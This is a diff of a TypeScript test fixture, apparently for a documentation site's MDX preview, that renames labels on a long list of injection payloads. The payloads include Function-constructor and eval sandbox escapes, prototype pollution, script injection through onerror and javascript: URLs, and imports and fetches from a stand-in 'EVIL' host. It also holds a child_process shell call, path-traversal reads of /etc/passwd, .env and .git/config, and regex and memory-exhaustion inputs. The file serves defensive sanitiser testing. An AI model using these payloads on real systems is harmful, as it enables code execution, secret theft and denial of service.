@@ -4,24 +4,26 @@ const secret = "export const secret = 'RUN'";
 
 /** JavaScript in expressions, in spread props, and in names. */
 export const expressions: readonly Payload[] = pages("code", {
-  "the maker of functions": '{[].constructor.constructor("RUN")()}',
-  "the maker of functions of text": '{"".sub.constructor("RUN")()}',
-  "the maker of functions of an arrow": '{(() => 0).constructor("RUN")()}',
-  "the maker of functions in brackets": '{(() => 0)["constructor"]("RUN")()}',
-  "the maker of functions by joined letters": '{[]["con" + "structor"]["con" + "structor"]("RUN")()}',
-  "the maker of functions by a list": '{[][["constructor"]][["constructor"]]("RUN")()}',
-  "the maker of functions by an object": '{[][{ toString: () => "constructor" }]("RUN")}',
-  "the maker of functions by taking apart":
+  "the Function constructor": '{[].constructor.constructor("RUN")()}',
+  "the Function constructor through a string method": '{"".sub.constructor("RUN")()}',
+  "the Function constructor through an arrow function": '{(() => 0).constructor("RUN")()}',
+  "the Function constructor through bracket notation": '{(() => 0)["constructor"]("RUN")()}',
+  "the Function constructor through a concatenated name":
+    '{[]["con" + "structor"]["con" + "structor"]("RUN")()}',
+  "the Function constructor through an array as a name": '{[][["constructor"]][["constructor"]]("RUN")()}',
+  "the Function constructor through an object as a name": '{[][{ toString: () => "constructor" }]("RUN")}',
+  "the Function constructor through destructuring":
     'export const f = ({ constructor: { constructor: c } }) => c("RUN")()\n\n{f([])}',
-  "the maker of functions by reduce": '{["constructor", "constructor"].reduce((a, b) => a[b], [])("RUN")()}',
-  "the maker of functions by optional chains": '{[]?.constructor?.constructor?.("RUN")?.()}',
-  "the maker of generators": '{(function* () {}).constructor("RUN")().next()}',
-  "the maker of promises": '{(async () => {}).constructor("RUN")()}',
+  "the Function constructor through reduce":
+    '{["constructor", "constructor"].reduce((a, b) => a[b], [])("RUN")()}',
+  "the Function constructor through optional chaining": '{[]?.constructor?.constructor?.("RUN")?.()}',
+  "the GeneratorFunction constructor": '{(function* () {}).constructor("RUN")().next()}',
+  "the AsyncFunction constructor": '{(async () => {}).constructor("RUN")()}',
   Function: '{Function("RUN")()}{new Function("RUN")()}',
   eval: '{eval("RUN")}{(0, eval)("RUN")}{globalThis.eval("RUN")}',
   "the canary itself": "{RUN}{window.RUN}{globalThis.RUN}{self.RUN}{top.RUN}{this.RUN}",
   "a timer": '{setTimeout("RUN", 0)}{setInterval(() => RUN, 1)}{queueMicrotask(() => RUN)}',
-  "an import": '{import("data:text/javascript,RUN")}{await import("https://EVIL/a.js")}',
+  "a dynamic import": '{import("data:text/javascript,RUN")}{await import("https://EVIL/a.js")}',
   require: '{require("node:child_process").execSync("touch /tmp/pwned")}{module.constructor._load("fs")}',
   process: '{process.exit(1)}{process.binding("fs")}{process.mainModule.require("fs")}',
   fetch:
@@ -33,7 +35,7 @@ export const expressions: readonly Payload[] = pages("code", {
     '{new Worker("data:text/javascript,RUN")}{new SharedWorker("https://EVIL")}{navigator.serviceWorker.register("https://EVIL")}',
   "the document":
     '{document.write("<script>RUN</script>")}{document.body.innerHTML = "<img src=x onerror=RUN>"}{document.cookie}',
-  "the place":
+  "navigation to another location":
     '{location.href = "javascript:RUN"}{window.location = "https://EVIL"}{window.open("https://EVIL")}{location.assign("https://EVIL")}',
   "a dialog": "{alert(1)}{confirm(1)}{prompt(1)}{window.print()}",
   "the message channel":
@@ -41,14 +43,15 @@ export const expressions: readonly Payload[] = pages("code", {
   "a proxy": '{new Proxy({}, { get: () => RUN }).a}{Reflect.construct(Function, ["RUN"])()}',
   "a getter": "export const o = { get a() { return RUN } }\n\n{o.a}",
   "a setter": "export const o = { set a(x) { RUN } }\n\n{o.a = 1}",
-  "a computed name": 'export const o = { ["__proto__"]: { polluted: 1 } }\n\n{o.polluted}{({}).polluted}',
+  "a computed property name":
+    'export const o = { ["__proto__"]: { polluted: 1 } }\n\n{o.polluted}{({}).polluted}',
   "__proto__ in an object":
     "export const o = { __proto__: { polluted: 1, toString: () => RUN } }\n\n{o.polluted} {`${o}`}",
-  "__proto__ by assignment":
+  "__proto__ of an object in an assignment":
     "export const f = () => { const o = {}; o.__proto__.polluted = 1; return o.polluted }\n\n{f()}",
-  "__proto__ by assignment of a list":
+  "__proto__ of an array in an assignment":
     'export const f = () => { const o = []; o["__proto__"]["polluted"] = 1; return 1 }\n\n{f()}',
-  "prototype of a constructor":
+  "the prototype of a constructor":
     "export const f = () => { Object.prototype.polluted = 1; Array.prototype.map = () => RUN; return 1 }\n\n{f()}",
   "Object.assign to a prototype":
     "{Object.assign(Object.prototype, { polluted: 1 })}{Object.assign({}.__proto__, { polluted: 1 })}",
@@ -57,114 +60,116 @@ export const expressions: readonly Payload[] = pages("code", {
     '{Object.defineProperty(Object.prototype, "polluted", { value: 1 })}{Object.setPrototypeOf({}, { polluted: 1 })}',
   "Object.fromEntries": '{Object.fromEntries([["__proto__", { polluted: 1 }]]).polluted}',
   __defineGetter__: '{({}).__defineGetter__("a", () => RUN)}{({}).__lookupGetter__("__proto__")}',
-  "toString that runs":
+  "toString that runs code":
     '{`${{ toString: () => RUN }}`}{{ toString: () => RUN } + ""}{[{ toString: () => RUN }].join()}',
-  "valueOf that runs": "{+{ valueOf: () => RUN }}{{ valueOf: () => RUN } * 1}{{ valueOf: () => RUN } > 0}",
-  "toJSON that runs": "{JSON.stringify({ toJSON: () => RUN })}{JSON.stringify({ a: 1 }, () => RUN)}",
+  "valueOf that runs code":
+    "{+{ valueOf: () => RUN }}{{ valueOf: () => RUN } * 1}{{ valueOf: () => RUN } > 0}",
+  "toJSON that runs code": "{JSON.stringify({ toJSON: () => RUN })}{JSON.stringify({ a: 1 }, () => RUN)}",
   "Symbol.toPrimitive": "{`${{ [Symbol.toPrimitive]: () => RUN }}`}",
   "Symbol.iterator": "{[...{ [Symbol.iterator]: () => RUN }]}",
   "Symbol.species": "{[].map.call({ constructor: { [Symbol.species]: () => RUN } }, (x) => x)}",
-  "then that runs": "{{ then: () => RUN }}{Promise.resolve({ then: () => RUN })}{await { then: () => RUN }}",
+  "then that runs code":
+    "{{ then: () => RUN }}{Promise.resolve({ then: () => RUN })}{await { then: () => RUN }}",
   "a tagged template": "{String.raw`RUN`}{((a) => a.constructor.constructor(`RUN`)())`x`}{Function`RUN```}",
   "call and apply":
     '{[].map.call.apply(eval, ["RUN"])}{(() => RUN).bind(null)()}{Function.prototype.call.call(eval, null, "RUN")}',
-  "a callback of sort":
+  "callbacks of array and string methods":
     '{[1, 2].sort((a, b) => RUN)}{"a".replace(/a/, () => RUN)}{[1].map(eval)}{["RUN"].forEach(eval)}{["RUN"].map(Function)}',
   "arguments and callee":
     "{(function () { return arguments.callee.caller })()}{(function () { return this })().RUN}",
   "a class": "export const A = class { static { RUN } constructor() { RUN } }\n\n{new A()}",
   "an error's stack":
     "{(() => { try { null.a } catch (e) { return e.constructor.constructor('RUN')() } })()}",
-  "a label and with": "{(() => { with ({ a: 1 }) { RUN } })()}",
+  "a with statement": "{(() => { with ({ a: 1 }) { RUN } })()}",
   debugger: "{(() => { debugger; return 1 })()}",
-  "a regular expression that takes long":
+  "a regular expression that backtracks":
     '{/^(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!".match(/(a|a)*$/)}',
-  "a regular expression made of text":
+  "a regular expression from a string":
     '{new RegExp("^(a+)+$").exec("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}',
-  "a flood of text":
+  "very long strings":
     '{"a".repeat(2 ** 30)}{"a".padEnd(2 ** 30)}{new Array(2 ** 31).fill("a").join("")}{"a".repeat(-1)}',
-  "a loop without end": "export const f = () => { while (true) {} }\n\n{f()}",
-  "a circle of calls": "export const f = () => f()\n\n{f()}",
-  "a component in itself": "export const A = () => <A />\n\n<A />",
-  "a list in itself":
+  "an infinite loop": "export const f = () => { while (true) {} }\n\n{f()}",
+  "infinite recursion": "export const f = () => f()\n\n{f()}",
+  "a component that renders itself": "export const A = () => <A />\n\n<A />",
+  "an array that contains itself":
     "export const f = () => { const a = []; a.push(a); return a }\n\n{f()}{JSON.stringify(f())}",
-  "an object in itself":
+  "an object that contains itself":
     "export const f = () => { const a = {}; a.a = a; return a }\n\n<Card title={f()} {...f()}>a</Card>",
-  "spread of a prototype": [
+  "a spread prototype": [
     '<p {...{ __proto__: { onclick: "RUN" } }} {...Object.prototype}>a</p>',
     '<p onclick="RUN">a</p>',
   ],
-  "spread of raw HTML": [
+  "spread raw HTML": [
     '<p {...{ dangerouslySetInnerHTML: { __html: "<img src=x onerror=RUN>" } }}>a</p>',
     "<img src=x onerror=RUN>",
   ],
-  "spread of JSON":
+  "spread JSON":
     '<p {...JSON.parse(\'{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}\')}>a</p>',
-  "spread of children": [
+  "spread children": [
     '<p {...{ children: { type: "img", props: { src: "x", onError: "RUN" }, __html: "<img src=x onerror=RUN>" } }} />',
     "<img src=x onerror=RUN>",
   ],
-  "a made-up element": [
+  "a forged React element": [
     '{{ $$typeof: "react.element", type: "script", props: { children: "RUN" }, key: null, ref: null, constructor: undefined }}',
     "<script>RUN</script>",
   ],
-  "a made-up element as a node of ours": [
+  "a forged preview node": [
     '{{ kind: "element", tag: "script", type: "script", props: { entries: [], children: "RUN" }, children: ["RUN"] }}',
     "<script>RUN</script>",
   ],
-  "a made-up element in a prop": [
+  "a forged element in a prop": [
     '<Card title={{ tag: "script", children: ["RUN"] }} icon={{ tag: "#image", props: { src: "https://EVIL/p.png" } }}>a</Card>',
     '<img src="https://EVIL/p.png">',
   ],
-  "a made-up node in an array prop": [
+  "a forged node in an array prop": [
     '<Card title={[{ tag: "img", props: { src: "https://EVIL/p.png", onerror: "RUN" } }]}>a</Card>',
     '<img src="https://EVIL/p.png" onerror="RUN">',
   ],
   "a tag from an object":
     "export const o = { Script: 'script', __proto__: null }\n\n<o.Script>RUN</o.Script>\n\n<o.constructor>a</o.constructor>",
-  "tags by names of JavaScript":
+  "tags named after built-in properties":
     "<constructor>a</constructor>\n\n<__proto__>a</__proto__>\n\n<toString>a</toString>\n\n<hasOwnProperty>b</hasOwnProperty>\n\n<valueOf.call>c</valueOf.call>",
-  "own tags of the preview": [
+  "internal tags of the preview": [
     '{React.createElement("#image", { src: "https://EVIL/p.png", kind: "img" })}{React.createElement("#embed", { src: "javascript:RUN" })}',
     '<img src="https://EVIL/p.png">',
   ],
-  "exports by names of JavaScript": `export const __proto__ = { polluted: 1 }\nexport const constructor = 1\nexport const toString = () => RUN\n\n{polluted}`,
-  "a provider of components": [
+  "exports named after built-in properties": `export const __proto__ = { polluted: 1 }\nexport const constructor = 1\nexport const toString = () => RUN\n\n{polluted}`,
+  "exported components that replace elements": [
     "export const components = { p: 'script', a: () => <script>RUN</script>, wrapper: 'iframe' }\n\ntext\n\nexport default function Layout() { return <script>RUN</script> }",
     "<script>RUN</script>",
   ],
-  "effects of React": `${secret}\nexport const A = () => { React.useEffect(() => { RUN; fetch("https://EVIL") }); React.useLayoutEffect(() => RUN); const [x] = React.useState(() => RUN); const r = React.useRef(RUN); React.useMemo(() => RUN); return <p ref={() => RUN}>{x}</p> }\n\n<A />`,
+  "React effects": `${secret}\nexport const A = () => { React.useEffect(() => { RUN; fetch("https://EVIL") }); React.useLayoutEffect(() => RUN); const [x] = React.useState(() => RUN); const r = React.useRef(RUN); React.useMemo(() => RUN); return <p ref={() => RUN}>{x}</p> }\n\n<A />`,
 });
 
 /** Imports of a page, along with the imported files. */
 export const imports: readonly Payload[] = [
   ...Object.entries({
-    "a file above": "../../etc/passwd",
-    "a file far above": "../../../../../../../../etc/passwd",
-    "a file by its whole path": "/etc/passwd",
-    "a file of the system": "file:///etc/passwd",
-    "a file of Windows": "C:\\\\Windows\\\\win.ini",
+    "a path above the site": "../../etc/passwd",
+    "a path far above the site": "../../../../../../../../etc/passwd",
+    "an absolute path": "/etc/passwd",
+    "a file URL": "file:///etc/passwd",
+    "a Windows path": "C:\\\\Windows\\\\win.ini",
     "a share": "\\\\\\\\EVIL\\\\share\\\\a.js",
-    "a module of Node": "node:fs",
-    "a module of Node by its old name": "child_process",
-    "a file of the web": "https://EVIL/a.js",
-    "a file of the web without scheme": "//EVIL/a.js",
+    "a Node.js module": "node:fs",
+    "a Node.js module without its prefix": "child_process",
+    "a file from the web": "https://EVIL/a.js",
+    "a file from the web without a scheme": "//EVIL/a.js",
     data: "data:text/javascript,export default RUN",
     "a package": "left-pad",
     "a script": "javascript:RUN",
     "a path with a NUL": "/snippets/a\\u0000.mdx",
-    "a path that is escaped": "/%2e%2e/%2e%2e/etc/passwd",
+    "a percent-encoded path": "/%2e%2e/%2e%2e/etc/passwd",
     "a path with backslashes": "/snippets\\\\..\\\\..\\\\..\\\\etc\\\\passwd",
-    "the secrets of the site": "/.env",
+    "the site's secrets": "/.env",
     "the repository": "/.git/config",
-    "a name of JavaScript": "/__proto__",
+    "the name of a built-in property": "/__proto__",
   }).map(([what, name]): Payload => ({
     name: `imports/${what}`,
     page: `import A, { b as c } from "${name}"\nimport * as d from "${name}"\nexport { e } from "${name}"\nimport "${name}"\n\n<A />\n\n{A}{c}{d.default}{d}`,
     html: "",
   })),
   {
-    name: "imports/a component that loads when it is read",
+    name: "imports/a component whose module runs code",
     page: 'import { A } from "/snippets/a.jsx"\n\n<A />',
     files: {
       "snippets/a.jsx":
@@ -173,7 +178,7 @@ export const imports: readonly Payload[] = [
     html: '<img src="https://EVIL/p.png" onerror="RUN">',
   },
   {
-    name: "imports/a snippet with script",
+    name: "imports/a snippet with scripts",
     page: 'import S from "/snippets/s.mdx"\n\n<S href="javascript:RUN" />',
     files: {
       "snippets/s.mdx":
@@ -182,13 +187,13 @@ export const imports: readonly Payload[] = [
     html: '<script>RUN</script><a href="javascript:RUN">a</a>',
   },
   {
-    name: "imports/a snippet in itself",
+    name: "imports/a snippet that shows itself",
     page: 'import S from "/snippets/s.mdx"\n\n<S />',
     files: { "snippets/s.mdx": 'import S from "/snippets/s.mdx"\n\n<img src="x" onError="RUN" />\n\n<S />' },
     html: '<img src="x" onerror="RUN">',
   },
   {
-    name: "imports/data with a prototype",
+    name: "imports/JSON data with a prototype",
     page: 'import d from "/data/d.json"\n\n<p {...d}>{d.polluted}{d.href}</p>\n\n<a {...d}>a</a>',
     files: {
       "data/d.json":
@@ -197,7 +202,7 @@ export const imports: readonly Payload[] = [
     html: '<a href="javascript:RUN" onclick="RUN">a</a>',
   },
   {
-    name: "imports/a drawing as a component",
+    name: "imports/an SVG image as a component",
     page: 'import Logo from "/logo.svg"\n\n<Logo />\n\n<img src={Logo} />\n\n<Card img={Logo} title="a" />',
     files: {
       "logo.svg":
